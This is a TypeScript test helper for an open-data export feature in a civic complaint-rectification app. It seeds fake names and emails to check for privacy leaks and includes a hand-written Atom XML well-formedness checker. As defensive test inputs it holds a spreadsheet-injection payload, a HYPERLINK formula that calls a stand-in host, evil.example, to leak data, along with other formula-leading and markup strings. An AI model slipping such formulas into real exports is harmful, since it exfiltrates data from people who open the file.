// What the open-data tests share: a campaign holding public rectifications, a draft, an
// individual cadre's one and people's names everywhere they could leak from; and reading Atom
// without an XML library (a strict check of the little XML the feed uses).
import { expect } from 'vitest';
import type { TestApp } from '../helpers/app.js';
import { createCampaign, createUnit, createUser } from '../helpers/factories.js';
import { seedOpinion } from '../inbox/recording.js';
import { addContact, coordinator, markDone, promised } from '../reminders/support.js';

/** Every person's name or address seeded; none may appear in any open-data file. */
export const PEOPLE = [
  'Chen Coordinator',
  'Wang Responsible',
  '王负责',
  'Li Owner',
  '李措施',
  'Zhang Cadre',
  '张干部',
  'Zhao Contact',
  'zhao.contact@roads.example.org',
  'Qian Officer',
  'qian.officer@roads.example.org',
  'Sun Submitter',
  'sun.submitter@example.org',
];

export const FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak","Click")';
/** Characters XML must escape, and one it does not allow at all. */
export const MARKUP_TITLE = 'Fees <b>"hidden"</b> & \'extra\' \u0001charges';

export async function seedCampaign(t: TestApp) {
  const actor = await coordinator(t, 'Chen Coordinator');
  const campaignId = await createCampaign(t.app.db);
  const roads = await createUnit(t.app.db, { name: 'Roads Bureau' });
  await addContact(t, roads, 'zhao.contact@roads.example.org', 'en', 'Zhao Contact');
  const officer = await createUser(t.app.db, {
    role: 'unit_officer',
    unitId: roads,
    name: 'Qian Officer',
    email: 'qian.officer@roads.example.org',
  });
  const officerActor = { id: officer.id, label: officer.email };
  await seedOpinion(t, {
    campaignId,
    unitId: roads,
    anonymous: false,
    submitterName: 'Sun Submitter',
    submitterEmail: 'sun.submitter@example.org',
    body: 'The roads are bad.',
  });

  const potholes = await promised(t, actor, {
    campaignId,
    unitId: roads,
    title: 'Potholes left for months',
    description: 'Residents report potholes unrepaired for months.',
    cadreName: 'Zhang Cadre', // set where it does not belong, to show the column is never read
    responsible: 'Wang Responsible',
    measures: [
      { description: 'Publish the repair schedule', owner: 'Li Owner', deadline: '2026-11-25' },
      { description: 'Repair the worst hundred', owner: '李措施', deadline: '2026-12-10' },
    ],
  });
  const formula = await promised(t, actor, {
    campaignId,
    unitId: roads,
    level: 'organisation',
    title: FORMULA_TITLE,
    description: '+SUM(A1:A9) and -1',
    responsible: '王负责',
    measures: [{ description: '@import everything', deadline: '2026-12-31' }],
  });
  const markup = await promised(t, actor, {
    campaignId,
    unitId: roads,
    title: MARKUP_TITLE,
    measures: [{ description: 'Publish the fee list', deadline: '2026-12-31' }],
  });
  const draft = await promised(t, actor, {
    campaignId,
    unitId: roads,
    title: 'Still a draft',
    measures: [{ description: 'Not promised yet', deadline: '2026-12-31' }],
    draftOnly: true,
  });
  const individual = await promised(t, actor, {
    campaignId,
    unitId: roads,
    level: 'individual',
    title: 'One cadre drinks at noon',
    cadreName: '张干部',
    measures: [{ description: 'A personal rectification', deadline: '2026-11-21' }],
  });
  // The unit starts work and finishes the first measure.
  await markDone(t, officerActor, potholes.id, [potholes.measureIds[0]!], 'Schedule posted; Qian Officer checked it.');
  return { actor, officerActor, campaignId, roads, potholes, formula, markup, draft, individual };
}

export function expectNoPeople(text: string, what: string) {
  for (const name of PEOPLE) expect(text.includes(name), `${what} contains ${name}`).toBe(false);
}

// XML ------------------------------------------------------------------------------------------

const NAME = '[A-Za-z_][\\w.:-]*';
const ENTITY = /&(?:amp|lt|gt|quot|apos|#\d+|#x[0-9a-fA-F]+);/g;

function textProblems(text: string, where: string): string[] {
  const out: string[] = [];
  const bare = text.replace(ENTITY, '');
  if (bare.includes('&')) out.push(`unescaped & in ${where}: ${text}`);
  if (bare.includes('>')) out.push(`unescaped > in ${where}: ${text}`);
  if (bare.includes('<')) out.push(`unescaped < in ${where}: ${text}`);
  // eslint-disable-next-line no-control-regex
  if (/[\u0000-\u0008\u000B\u000C\u000E-\u001F]/.test(text)) out.push(`a character XML does not allow in ${where}`);
  return out;
}

/** What is not well-formed in this document (declaration, one root, balanced tags, quoted attributes, escaped text). */
export function xmlProblems(doc: string): string[] {
  const problems: string[] = [];
  const decl = /^<\?xml version="1\.0" encoding="utf-8"\?>\n/;
  if (!decl.test(doc)) problems.push('does not start with the XML declaration');
  const body = doc.replace(decl, '');
  const stack: string[] = [];
  let roots = 0;
  for (const m of body.matchAll(/<([^<>]*)>|([^<]+)|(<)/g)) {
    if (m[3]) {
      problems.push('a < that starts no tag');
      continue;
    }
    if (m[2] !== undefined) {
      if (stack.length === 0 && m[2].trim() !== '') problems.push(`text outside the root: ${m[2]}`);
      problems.push(...textProblems(m[2], stack.at(-1) ?? 'document'));
      continue;
    }
    const inner = m[1]!;
    if (inner.startsWith('/')) {
      const name = inner.slice(1).trim();
      const open = stack.pop();
      if (open !== name) problems.push(`</${name}> closes <${open ?? 'nothing'}>`);
      continue;
    }
    const selfClosing = inner.endsWith('/');
    const tag = new RegExp(`^(${NAME})((?:\\s+${NAME}="[^"]*")*)\\s*$`).exec(selfClosing ? inner.slice(0, -1) : inner);
    if (!tag) {
      problems.push(`not a tag: <${inner}>`);
      continue;
    }
    const names = [...tag[2]!.matchAll(new RegExp(`(${NAME})="([^"]*)"`, 'g'))];
    if (new Set(names.map((a) => a[1])).size !== names.length) problems.push(`repeated attribute in <${inner}>`);
    for (const a of names) problems.push(...textProblems(a[2]!, `${tag[1]}@${a[1]}`));
    if (stack.length === 0) roots++;
    if (!selfClosing) stack.push(tag[1]!);
  }
  if (roots !== 1) problems.push(`${roots} root elements`);
  if (stack.length > 0) problems.push(`unclosed: ${stack.join(' > ')}`);
  return problems;
}

export const unescapeXml = (s: string) =>
  s
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&quot;/g, '"')
    .replace(/&apos;/g, "'")
    .replace(/&amp;/g, '&');

function child(block: string, name: string): string | undefined {
  const m = new RegExp(`<${name}(?:\\s[^>]*)?>([^<]*)</${name}>`).exec(block);
  return m ? unescapeXml(m[1]!) : undefined;
}

export interface FeedEntry {
  id?: string;
  title?: string;
  updated?: string;
  link?: string;
  summary?: string;
}

/** The feed's own elements (before the first entry) and its entries, unescaped. */
export function readFeed(doc: string) {
  const head = doc.split('<entry>')[0]!;
  const entries: FeedEntry[] = [...doc.matchAll(/<entry>([\s\S]*?)<\/entry>/g)].map((m) => {
    const block = m[1]!;
    const link = /<link rel="alternate" type="text\/html" href="([^"]*)"\/>/.exec(block);
    return {
      id: child(block, 'id'),
      title: child(block, 'title'),
      updated: child(block, 'updated'),
      link: link ? unescapeXml(link[1]!) : undefined,
      summary: child(block, 'summary'),
    };
  });
  return {
    lang: /<feed xmlns="http:\/\/www\.w3\.org\/2005\/Atom" xml:lang="([^"]+)">/.exec(head)?.[1],
    id: child(head, 'id'),
    title: child(head, 'title'),
    updated: child(head, 'updated'),
    author: /<author><name>([^<]*)<\/name><\/author>/.exec(head)?.[1],
    self: /<link rel="self" type="application\/atom\+xml" href="([^"]*)"\/>/.exec(head)?.[1],
    entries,
  };
}
